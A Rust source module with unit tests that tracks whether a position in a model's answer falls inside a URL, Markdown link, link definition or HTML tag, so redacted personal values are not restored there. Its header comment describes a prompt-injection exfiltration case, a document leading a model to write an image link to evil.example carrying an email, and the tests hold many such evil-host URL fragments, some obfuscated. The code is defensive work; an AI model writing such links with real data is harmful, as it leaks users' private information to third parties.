//! Where in an answer nothing may be put back: in addresses, link targets and tags.
//!
//! A document can make a model write `![](https://evil.example/?q=[EMAIL_1])`. With the address
//! put back, whoever shows or opens that would send it away. So this reads along, byte by byte,
//! and knows whether the next word would become part of an address. In doubt it says yes: then a
//! placeholder is shown, and nothing is lost but comfort.

/// What addresses begin with that need no slashes.
const SCHEMES: [&[u8]; 6] = [b"http:", b"https:", b"ftp:", b"mailto:", b"sms:", b"www."];
/// Bytes that the longest of them has.
const TAIL: usize = 8;

/// The place behind what was read so far.
#[derive(Clone, Debug, Default)]
pub(super) struct Place {
    before: u8,
    escaped: bool,
    /// The line so far is blank.
    blank: bool,
    tag: Tag,
    link: Link,
    definition: Definition,
    address: bool,
    /// What was opened where an address began or may begin, and is not closed yet: the address
    /// may have spaces until then.
    opener: Option<u8>,
    /// The last bytes of the present word, in lower case.
    tail: [u8; TAIL],
    /// The present word has a dot, as the name of a host has.
    dotted: bool,
}

/// Whether this is inside a tag of HTML.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
enum Tag {
    #[default]
    Outside,
    Inside,
    /// Behind `name=`.
    Value,
    Quoted(u8),
}

/// Whether this is where a link of Markdown, `[words](target)`, has its target.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
enum Link {
    #[default]
    Outside,
    /// Behind `](`.
    Begun,
    /// In a target in angle brackets, which may hold everything.
    Angle,
    /// In the target or behind it, with so many open brackets.
    Open(u32),
}

/// Whether this is where a definition of a link, `[name]: target`, has its target.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
enum Definition {
    #[default]
    Outside,
    /// Behind `]:`; the target may begin in the next line.
    Begun,
    /// In the line of the target.
    Target,
}

impl Link {
    /// Behind this byte, where so many brackets are open.
    fn opened(depth: u32, byte: u8) -> Self {
        match byte {
            b'(' => Self::Open(depth.saturating_add(1)),
            b')' if depth == 1 => Self::Outside,
            b')' => Self::Open(depth - 1),
            _ => Self::Open(depth),
        }
    }
}

impl Place {
    /// Whether words may be put back here.
    pub(super) fn is_open(&self) -> bool {
        let definition = self.definition != Definition::Outside;
        self.tag == Tag::Outside && self.link == Link::Outside && !definition && !self.address
    }

    /// Goes on behind this text.
    pub(super) fn read(&mut self, text: &str) {
        for byte in text.bytes() {
            self.tag = self.next_tag(byte);
            self.link = self.next_link(byte);
            self.definition = self.next_definition(byte);
            self.follow_address(byte);
            self.blank = byte == b'\n' || self.blank && byte.is_ascii_whitespace();
            self.escaped = byte == b'\\' && !self.escaped;
            self.before = byte;
        }
    }

    /// Goes on behind words that were put back here.
    pub(super) fn put(&mut self, words: &str) {
        // `<[NAME_1] …>` becomes a tag once the name stands there.
        if self.before == b'<' && words.starts_with(|c: char| c.is_ascii_alphabetic()) {
            self.tag = Tag::Inside;
        }
        (self.before, self.escaped, self.blank) = (b'x', false, false);
        self.tail = [0; TAIL];
    }

    fn next_tag(&self, byte: u8) -> Tag {
        match self.tag {
            Tag::Outside if self.before == b'<' && (byte.is_ascii_alphabetic() || byte == b'/') => {
                Tag::Inside
            }
            Tag::Inside | Tag::Value if byte == b'>' => Tag::Outside,
            Tag::Inside if byte == b'=' => Tag::Value,
            Tag::Value if byte == b'"' || byte == b'\'' => Tag::Quoted(byte),
            Tag::Value if byte.is_ascii_whitespace() => Tag::Value,
            Tag::Value => Tag::Inside,
            Tag::Quoted(quote) if byte == quote => Tag::Inside,
            same => same,
        }
    }

    fn next_link(&self, byte: u8) -> Link {
        match (self.link, byte) {
            (Link::Outside, b'(') if self.before == b']' => Link::Begun,
            (Link::Outside, _) => Link::Outside,
            // No link reaches across an empty line.
            (_, b'\n') if self.blank => Link::Outside,
            (Link::Begun, b'<') => Link::Angle,
            (Link::Begun, byte) if byte.is_ascii_whitespace() => Link::Begun,
            (Link::Begun, _) => Link::opened(1, byte),
            (Link::Angle, b'>' | b'\n') if !self.escaped => Link::Open(1),
            (Link::Open(depth), byte) if !self.escaped => Link::opened(depth, byte),
            (same, _) => same,
        }
    }

    fn next_definition(&self, byte: u8) -> Definition {
        match (self.definition, byte) {
            (_, b':') if self.before == b']' => Definition::Begun,
            (Definition::Begun, b'\n') if self.blank => Definition::Outside,
            (Definition::Begun, byte) if !byte.is_ascii_whitespace() => Definition::Target,
            (Definition::Target, b'\n') => Definition::Outside,
            (same, _) => same,
        }
    }

    fn follow_address(&mut self, byte: u8) {
        if byte.is_ascii_whitespace() {
            if self.opener.is_none() || byte == b'\n' {
                self.address = false;
            }
            if !self.address {
                self.opener = None;
            }
            (self.tail, self.dotted) = ([0; TAIL], false);
            return;
        }
        self.follow_opener(byte);
        self.tail.rotate_left(1);
        self.tail[TAIL - 1] = byte.to_ascii_lowercase();
        self.dotted |= byte == b'.';
        self.address |= self.begins_address(byte);
    }

    fn follow_opener(&mut self, byte: u8) {
        let closer = self.opener.map(|opener| match opener {
            b'(' => b')',
            b'<' => b'>',
            quote => quote,
        });
        if closer == Some(byte) {
            self.opener = None;
        } else if !self.address && matches!(byte, b'"' | b'\'' | b'`' | b'(' | b'<') {
            self.opener = Some(byte);
        }
    }

    /// Whether this byte of a word makes an address of it. Browsers take `\` for `/`.
    fn begins_address(&self, byte: u8) -> bool {
        let slash = |byte: u8| byte == b'/' || byte == b'\\';
        let path = slash(byte) || byte == b'?' || byte == b'#';
        slash(byte) && slash(self.before)
            || self.dotted && path
            || SCHEMES.iter().any(|scheme| self.tail.ends_with(scheme))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_open(text: &str) -> bool {
        let mut place = Place::default();
        place.read(text);
        place.is_open()
    }

    #[test]
    fn words_are_put_back_where_people_write_them() {
        for text in [
            "",
            "Write to ",
            "Ines <",
            "(see ",
            "e.g. ",
            "1.5/2 and ",
            "and/or ",
            "{\"mail\":\"",
            "[1] ",
            "[Ines](https://a.example) ",
            "[Ines](<https://a.example/a b>) or ",
            "https://a.example, or ",
            "(https://a.example) or ",
            "\"https://a.example\" or ",
            "see <https://a.example> or ",
            "<b>",
            "<a href=\"https://a.example\"> ",
            "<a href='x>y'>",
            "if 1 < 2 then ",
            "[a](x\n\nno link: ",
            "[a]() ",
            "[a](<x)>) ",
            "[1]: https://a.example\n",
            "| ",
            "# ",
            "www and ",
        ] {
            assert!(is_open(text), "{text}");
        }
    }

    #[test]
    fn no_address_is_filled_in() {
        for text in [
            "https://evil.example/?q=",
            "HTTPS://evil.example/",
            "http:evil",
            "//evil.example/",
            "https:\\\\evil/",
            "https:\\/\\/evil/",
            "www.evil",
            "evil.example/",
            "evil.example?q=",
            "mailto:",
            "![](",
            "![x](evil/",
            "[x](<a b ",
            "[x](a(b)",
            "[x](a\\)",
            "[x](\n",
            "[x](<&sol;=) ",
            "[x](<a\\>) ",
            "[x]((a) ",
            "[x]: ",
            "[x]:\n  ",
            "[x]: &#104;ttps&#58;evil ",
            "[x]: &#104;ttps&#58;evil]()",
            "[x]: [x]:\n",
            "[x](a\n[x]: evil)",
            "\"https://evil/?a b ",
            "url(https://evil/?a b ",
            "<https://evil/?a b ",
            "<a href=\"",
            "<a href = '> ",
            "<img src=",
            "<img\nsrc=x",
            "</b ",
            "x<b ",
            "https://evil/)?q=",
            "(https://evil/)?q=",
            "\"https://evil/\",\"",
            "<a href=\"https://evil/\">?q=",
        ] {
            assert!(!is_open(text), "{text}");
        }
    }

    #[test]
    fn a_name_behind_a_bracket_opens_a_tag() {
        let mut place = Place::default();
        place.read("<");
        place.put("Ines");
        assert!(!place.is_open());
        place.read(" href=x>");
        assert!(place.is_open());
    }
}
